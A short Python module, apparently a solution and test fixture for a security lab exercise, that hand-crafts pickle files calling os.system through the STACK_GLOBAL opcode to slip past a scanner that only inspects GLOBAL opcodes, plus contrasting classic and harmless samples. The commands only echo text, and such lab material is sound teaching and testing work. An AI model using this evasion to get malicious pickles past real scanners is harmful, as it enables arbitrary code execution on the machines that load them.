"""STACK_GLOBAL instead of GLOBAL: the naive scanner reads only GLOBAL opcodes."""

from __future__ import annotations

import struct
from typing import Any


def _u(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def bypass() -> bytes:
    """PROTO 4; 'os' 'system' STACK_GLOBAL; ('echo advlab',) REDUCE; STOP. Never loaded."""
    return b"\x80\x04" + _u("os") + _u("system") + b"\x93" + b"(" + _u("echo advlab-lab") + b"tR."


def solve(client: Any) -> tuple[bytes, str]:
    return bypass(), "bypass.pkl"


def cheats(client: Any) -> list[tuple[str, bytes, str]]:
    from advlab.serialization.craft import exec_payload

    classic = b"\x80\x02" + exec_payload("/tmp/x", command="echo hi") + b"N."
    harmless = b"\x80\x04" + _u("weights") + b"."
    return [
        ("the classic GLOBAL payload", classic, "naive scanner catches it"),
        ("a harmless pickle", harmless, "no dangerous call"),
        ("not a pickle", b'{"os": "system"}', "not a pickle"),
        ("protocol 0", b"cos\nsystem\n(S'echo'\ntR.", "not a pickle"),
    ]
